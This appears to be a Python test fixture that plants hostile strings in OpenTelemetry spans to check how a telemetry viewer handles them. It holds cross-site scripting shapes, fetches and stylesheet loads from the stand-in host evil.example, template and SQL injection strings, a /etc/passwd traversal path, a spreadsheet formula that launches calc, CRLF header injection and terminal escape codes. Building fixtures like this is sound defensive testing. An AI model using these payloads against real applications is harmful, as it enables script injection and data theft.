"""What hostile telemetry holds: scripts, handlers, templates, SQL, words without end, marks that turn text around."""

from typing import Any

from . import otlp

_CODE = (
    "window.hacked=1",
    "alert(1)",
    "fetch('http://evil.example/')",
    "top.document.body.remove()",
    "eval(name)",
    "new Function('window.hacked=1')()",
)
_SHAPES = (
    "<script>{code}</script>",
    "</script><script>{code}</script>",
    "<img src=x onerror={code}>",
    "<svg onload={code}>",
    "<svg><script>{code}</script></svg>",
    "<body onload={code}>",
    "<iframe srcdoc='<script>parent.{code}</script>'></iframe>",
    "<a href=javascript:{code}>x</a>",
    "javascript:{code}",
    '" onmouseover="{code}" x="',
    "' onfocus='{code}' autofocus='",
    "`-{code}-`",
    "</textarea><script>{code}</script>",
    "</title><script>{code}</script>",
    "</style><script>{code}</script>",
    "--><script>{code}</script>",
    "]]><script>{code}</script>",
    "<math><mtext><script>{code}</script></mtext></math>",
    "<details open ontoggle={code}>",
    "<input onfocus={code} autofocus>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button>x</button></form>",
    "<object data=http://evil.example/x>",
    "<embed src=http://evil.example/x>",
    "<video src=http://evil.example/x onerror={code}>",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "&#60;script&#62;{code}&#60;/script&#62;",
    "%3Cscript%3E{code}%3C/script%3E",
    "\\u003cscript\\u003e{code}\\u003c/script\\u003e",
)
_PLAIN = (
    "{{ 7 * 7 }} {{ config }} {% raw %} {# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} <%= 7*7 %> @{7*7}",
    "{{constructor.constructor('window.hacked=1')()}}",
    "'; drop table data.spans; --",
    "' or '1'='1",
    "$1 $name :name ? %s %(x)s {0} {x}",
    "../../../../etc/passwd",
    "//evil.example/x",
    "http://evil.example/?a=b&c=d#e",
    "#span-0000000000000001",
    "?failure=99999999999&from=-1",
    "[x](javascript:window.hacked=1) ![x](http://evil.example/x.png)",
    "<!--[if IE]><script>window.hacked=1</script><![endif]-->",
    "x" * 2_000,
    "W" * 500 + "/" + "i" * 500,
    "a/" * 600,
    "\u202egnp.exe\u202c \u2066a\u2069 \u061c\u200e\u200f",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "Z\u0336" * 200 + "a" + "\u0300" * 300,
    "\U0001f469\u200d" * 200,
    "a\u200bb\u200cc\u2060d\ufeffe\u00adf",
    "line\r\nline\u2028line\u2029line\x0b\x0cline",
    "tab\ttab \x1b[2J \x1b]0;owned\x07",
    "\u3164\u2800\u115f",
    "&amp; &quot; &#x27; &nbsp; &",
    "'\"`<>&\\/=",
    "=cmd|' /C calc'!A0",
    "`code` **bold** # head\n- list\n> quote\n```\nfence\n```",
    "~~~\n</code></pre><script>window.hacked=1</script>",
    "null undefined NaN true",
    "-1 0 1e309",
    "\ud83d",
    " ",
    "__proto__ constructor prototype",
    "%00%0d%0aSet-Cookie: x=y",
)
PAYLOADS = tuple(shape.replace("{code}", code) for shape in _SHAPES for code in _CODE) + tuple(
    text.encode("utf-8", "replace").decode() for text in _PLAIN
)


def hostile_spans() -> list[tuple[str, list[dict[str, Any]]]]:
    """Return a failed request for each payload, which stands in every place where a sender writes text."""
    out: list[tuple[str, list[dict[str, Any]]]] = []
    for number, text in enumerate(PAYLOADS, start=1):
        made = otlp.checkout(0x10_000 + number, fails=False, ago_s=200)
        for one in made:
            one["name"] = text
            one["attributes"] += otlp.attributes({text or "x": text, "app.note": text})
        made[0]["attributes"] = otlp.attributes(
            {
                "http.request.method": "GET",
                "http.route": f"/{text}",
                "url.path": f"/{text}",
                "http.response.status_code": 500,
            }
        )
        made[0]["status"] = {"code": 2, "message": text}
        kind = f"E{number % 4}.{text}"
        raised = {"exception.type": kind, "exception.message": text, "exception.stacktrace": f"{otlp.STACK}\n{text}"}
        made[0]["events"] = [
            {"timeUnixNano": made[0]["endTimeUnixNano"], "name": "exception", "attributes": otlp.attributes(raised)}
        ]
        out.append((text or "x", made))
    return out
